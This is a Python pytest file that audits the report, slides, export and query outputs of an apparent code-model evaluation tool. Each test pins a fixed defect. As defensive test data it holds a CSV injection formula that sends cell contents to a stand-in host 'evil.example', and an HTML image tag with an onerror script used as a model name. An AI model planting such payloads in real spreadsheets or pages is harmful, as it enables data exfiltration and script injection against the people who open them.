"""Audit of what turns a log into something a person reads (report, slides, demo, export,
query): each test pins a defect that was reproduced on the code before its fix."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from pathlib import Path

import msgspec
import pytest
from azr_actors.eventlog import Event, GenerationFailed, SampleGenerated
from azr_actors.replay.metrics import run_metrics
from azr_actors.replay.projections import fold
from fixtures_log import make_log, renamed, sample_events

from azr_actors.cli import main
from azr_actors.reporting import Table, build_report, render_markdown


def _events() -> list[Event]:
    """The fixture run, with beta's generations ten times slower than alpha's (so pooled
    latency percentiles are no model's), and one sample whose raw text is a spreadsheet formula."""
    out: list[Event] = []
    for e in sample_events():
        if isinstance(e, SampleGenerated) and e.model == "beta" and e.total_ms is not None:
            e = msgspec.structs.replace(e, total_ms=e.total_ms * 10)
        if isinstance(e, SampleGenerated) and e.model == "alpha" and e.sample_idx == 0:
            e = msgspec.structs.replace(e, raw='=HYPERLINK("http://evil.example/?"&A1,"x")')
        out.append(e)
    return out


@pytest.fixture(scope="module")
def log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_log(tmp_path_factory.mktemp("audit") / "run.db", _events())


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# -- --out that is a file: bad input (exit 2), one line, not a runtime failure --------------
@pytest.mark.parametrize("command", ["report", "demo", "slides", "export"])
def test_an_out_that_is_a_file_is_bad_input(
    command: str, log: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    a_file = tmp_path / "taken.txt"
    a_file.write_text("not a folder")
    before = _digest(log)
    for out in (a_file, a_file / "sub"):
        assert main([command, "--log", str(log), "--out", str(out)]) == 2
        err = capsys.readouterr().err.strip()
        assert err.startswith("azr: error:") and "is a file, not a folder" in err
        assert "\n" not in err and "Traceback" not in err
    assert a_file.read_text() == "not a folder"
    assert _digest(log) == before


# -- query: JSON output of a non-finite number ------------------------------------------------
def test_query_json_of_an_infinite_value_is_valid_json(
    log: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rc = main(["query", "--log", str(log), "SELECT 9e999 AS big, -9e999 AS small, 1.5 AS x", "--format", "json"])
    assert rc == 0
    out = json.loads(capsys.readouterr().out)
    assert out["rows"] == [{"big": None, "small": None, "x": 1.5}]


# -- query: CSV injection from untrusted sample text ------------------------------------------
def test_query_csv_quotes_cells_a_spreadsheet_would_run_as_formulas(
    log: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sql = (
        "SELECT json_extract(payload, '$.raw') AS raw, '+1' AS plus, '@x' AS at, "
        "-1 AS number, 'HumanEval/0' AS plain FROM events "
        "WHERE kind = 'sample_generated' AND model = 'alpha' AND json_extract(payload, '$.sample_idx') = 0 LIMIT 1"
    )
    assert main(["query", "--log", str(log), sql, "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[0] == ["raw", "plus", "at", "number", "plain"]
    raw, plus, at, number, plain = rows[1]
    assert raw == "'" + '=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert (plus, at, number, plain) == ("'+1", "'@x", "-1", "HumanEval/0")
    for cell in rows[1]:
        assert not cell.startswith(("=", "+", "@"))


# -- report: latency figures are azr metrics' own, per model ---------------------------------
def test_report_latency_figures_equal_the_metrics_of_each_model(log: Path) -> None:
    events = _events()
    state = fold(events)
    metrics = run_metrics(state)
    blocks = build_report(state, metrics)
    heading = next(i for i, b in enumerate(blocks) if getattr(b, "text", None) == "Latency")
    table = blocks[heading + 1]
    assert isinstance(table, Table)
    rows = {(r[0].removesuffix(" (simulated)"), r[1]): r for r in table.rows}
    expected = {}
    for model, pm in metrics["per_model"].items():
        expected[(model, "generation")] = pm["latency"]
    for model, report in metrics["latency"]["per_model"].items():
        for scenario, figures in report["scenarios"].items():
            expected[(model, scenario)] = figures
    assert set(rows) == set(expected)
    p95_col = table.header.index("p95 ms")
    req_col = table.header.index("requests")
    for key, figures in expected.items():
        assert rows[key][p95_col] == f"{figures['p95_ms']:.0f}"
        assert rows[key][req_col] == str(figures["requests"])
    # beta is ten times slower: its p95 is over the target, alpha's is not, as in the criteria
    assert metrics["criteria"]["beta"]["p95<500ms"] is False
    assert float(rows[("beta", "generation")][p95_col]) >= 500
    assert "| beta | generation |" in render_markdown(blocks)


# -- report and slides: a "$" in a model name is not mathtext --------------------------------
def test_a_dollar_in_a_model_name_does_not_abort_the_report_or_the_slides(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    name = "gpt$\\x$"
    events = [renamed(e, "alpha", name) for e in sample_events()]
    log = make_log(tmp_path / "dollar.db", events)  # type: ignore[arg-type]
    assert main(["report", "--log", str(log), "--out", str(tmp_path / "report")]) == 0
    assert name in (tmp_path / "report" / "report.md").read_text()
    assert (tmp_path / "report" / "pass_at_k.png").read_bytes().startswith(b"\x89PNG")
    assert main(["slides", "--log", str(log), "--out", str(tmp_path / "slides")]) == 0
    assert "SIMULATED" in (tmp_path / "slides" / "slides.html").read_text()
    capsys.readouterr()


# -- azr run's closing summary: names and paths are text, not rich markup ---------------------
@pytest.mark.parametrize("name", ["run[v2]", "x[/]"])
def test_the_run_summary_prints_model_names_and_paths_with_brackets(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from rich.console import Console

    from azr_actors.commands import summary

    buf = io.StringIO()
    monkeypatch.setattr(summary, "_console", Console(file=buf, width=200))
    events = [renamed(e, "alpha", name) for e in sample_events()]
    summary.print_summary(run_metrics(fold(events), log="runs/[exp]/run.db"))  # type: ignore[arg-type]
    out = buf.getvalue()
    assert name in out and "runs/[exp]/run.db" in out


def test_the_run_summary_names_why_generations_failed(monkeypatch: pytest.MonkeyPatch) -> None:
    # a wrong key or a dead endpoint must not read as a model that writes bad code
    from rich.console import Console

    from azr_actors.commands import summary

    failed = [
        GenerationFailed(key=f"genfail:beta:HumanEval/3:{i}", run_id="run-fixture", actor="generator", ts=1.0,
                         task_id="HumanEval/3", model="beta", sample_idx=i, error=error)
        for i, error in enumerate(["openai:beta: gave up after 6 retries: connection_error", "HTTP 401\ndetail"])
    ]
    metrics = run_metrics(fold([*sample_events(), *failed]), log="run.db")  # type: ignore[arg-type]
    beta = metrics["per_model"]["beta"]
    counted = beta["generation_failures"]
    assert counted >= 1 and sum(beta["generation_errors"].values()) == counted
    assert all("\n" not in message for message in beta["generation_errors"])
    buf = io.StringIO()
    monkeypatch.setattr(summary, "_console", Console(file=buf, width=300))
    summary.print_summary(metrics)
    assert f"beta: {counted} generation(s) failed (most often: " in buf.getvalue()


def test_a_model_name_holding_html_stays_text_in_report_md() -> None:
    # Markdown renderers pass raw HTML through; a model name comes from a user's spec or file name
    name = "<img src=x onerror=alert(1)>"
    events = [renamed(e, "alpha", name) for e in sample_events()]
    state = fold(events)  # type: ignore[arg-type]
    markdown = render_markdown(build_report(state, run_metrics(state, log="run.db")))
    assert "<img" not in markdown and "&lt;img src=x onerror=alert(1)>" in markdown
    assert "p95<500ms" in markdown  # a '<' that opens no tag stays as it is
